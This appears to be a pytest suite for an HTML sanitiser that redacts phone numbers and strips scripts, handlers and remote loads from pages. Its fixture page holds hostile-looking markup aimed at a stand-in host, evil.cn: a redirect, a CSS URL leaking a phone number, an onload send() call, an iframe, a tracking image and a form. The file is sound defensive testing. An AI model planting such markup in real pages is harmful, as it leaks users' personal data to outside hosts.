"""Pages: the visible text is kept as it is; what runs, loads or hides is gone, whatever it was hidden in."""

import contextlib
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handover.formats import FormatRefusedError
from handover.formats.runs import spread
from tests.formats.rewriting import read, rewrite

PAGE = """<!doctype html><html><head><meta charset="gb2312"><title>客户 &amp; 档案</title>
<meta http-equiv="refresh" content="0;url=http://evil.cn"><style>p{background:url(http://evil.cn/13800000001)}</style></head>
<body onload="send(13800000002)"><!-- 王五 13800000003 --><h1 id="x13800000004">张三</h1>
<p style="color:red">电话138<b>1234</b>5678，邮箱<a href="mailto:zhang@example.com">写信</a><br>&#49;&#x33;9&shy;</p>
<script>var p = "<p>13800000005</p>"</script><iframe src="http://evil.cn">13800000006</iframe>
<table><tr><td colspan="2" data-phone="13800000007">甲<td>乙</table><img src="http://evil.cn/1.gif" alt="照片">
<form action="http://evil.cn"><input value="值" onclick=x></form></body></html>"""


def test_blocks_are_read_across_inline_tags_and_references() -> None:
    _, values = read(PAGE.encode("gb18030"), "a.html")
    assert values["text"] == ["客户 & 档案", "张三", "电话13812345678，邮箱写信", "139\xad", "甲", "乙"]
    assert values["attribute"] == ["mailto:zhang@example.com", "2", "13800000007", "照片", "值"]
    hidden = " ".join(values["hidden"])
    assert all(f"1380000000{number}" in hidden for number in (1, 2, 3, 4, 5, 6))


def test_rewritten_page_has_the_same_text_and_nothing_that_runs_or_loads() -> None:
    out = rewrite(PAGE.encode("gb18030"), "a.html", replace={"13812345678": "[mobile]"}).decode()
    assert "<p>电话<b></b>[mobile]，邮箱" in out or "<p>电话[mobile]<b></b>，邮箱" in out
    assert "<title>客户 &amp; 档案</title>" in out
    for trace in ("evil", "1380000000", "script", "style", "onload", "iframe", "refresh", "<!--", "form", "onclick"):
        assert trace not in out.replace("13800000007", "")
    again = rewrite(out.encode(), "a.html").decode()
    assert again == out


def test_records_that_are_not_kept_are_gone_with_their_attributes() -> None:
    data = "<p title='甲1'>张三</p><p title='乙2'>李四</p>".encode()
    out = rewrite(data, "a.html", [False, True]).decode()
    assert "李四" in out
    assert "张三" not in out
    assert "乙2" in out


@pytest.mark.parametrize(
    "source",
    [
        "<p>13812345678",
        "<p/x='>'>13812345678",
        "<svg><text>13812345678</text></svg>",
        "<noscript>13812345678</noscript>",
        "<template>13812345678</template>",
        "<p>a < 13812345678 > b",
        "<xmp>13812345678</xmp>",
        "<textarea>13812345678</textarea>",
        "<!doctype html><p title=13812345678>",
        "<!-->13812345678",
        "<p>1<!---->3812345678",
        "<p>１<span>3812345678",
        "<p a='13812345678",
        "<p a='1' a='13812345678'>",
        "<!a 13812345678>",
        "<?php 13812345678 ?>",
        "<script>13812345678",
        "</p 13812345678>x",
        "<plaintext>13812345678",
        "<13812345678>",
        "<x13812345678>",
        "<p 13812345678>",
        "<p data-13812345678=1>",
        "<a href='tel:1%33812345678'>x</a>",
    ],
)
def test_no_place_in_the_source_escapes_the_scan(source: str) -> None:
    _, values = read(source.encode(), "a.html")
    assert "3812345678" in "\n".join(value for column in values.values() for value in column)


@given(st.text("<>/!-='\"&; abpx13\n", max_size=60))
def test_what_is_written_holds_nothing_that_was_not_read(source: str) -> None:
    first = rewrite(("<p>" + source).encode(), "a.html")
    assert rewrite(first, "a.html") == first
    texts = read(("<p>" + source).encode(), "a.html")[1]["text"]
    assert read(first, "a.html")[1]["text"] == list(filter(None, texts))


def test_element_that_no_one_knows_does_not_cut_a_number() -> None:
    data = b"<p>138<x>1234</x><script></script>5<!-- -->678<form>139</form>1</p>"
    assert read(data, "a.html")[1]["text"] == ["13812345678", "139", "1"]
    assert rewrite(data, "a.html", replace={"13812345678": "-"}).endswith(b"<p>-<div>139</div>1</p>")


@given(st.lists(st.text("ab1 张", max_size=5), min_size=1, max_size=6), st.text("ab1 张", max_size=12))
def test_new_text_is_spread_whole(parts: list[str], new: str) -> None:
    assert "".join(spread(parts, new)) == new
    assert spread(parts, "".join(parts)) == parts


def test_what_is_unchanged_stays_in_its_place() -> None:
    assert spread(["姓名：", "张", "三", "，电话", "138", "1234", "5678", "。"], "姓名：[n]，电话[t]。") == [
        "姓名：", "[n]", "", "，电话", "[t]", "", "", "。"
    ]  # fmt: skip


@pytest.mark.parametrize("piece", ["<a ", "<b>", "<!--", "</", "<script>", "a='", "<p a='\"", "&#49", "<![CDATA["])
def test_malformed_pages_take_linear_time(piece: str) -> None:
    started = time.process_time()
    with contextlib.suppress(FormatRefusedError):
        read(("<p>x" + piece * 60_000).encode(), "a.html")
    assert time.process_time() - started < 10
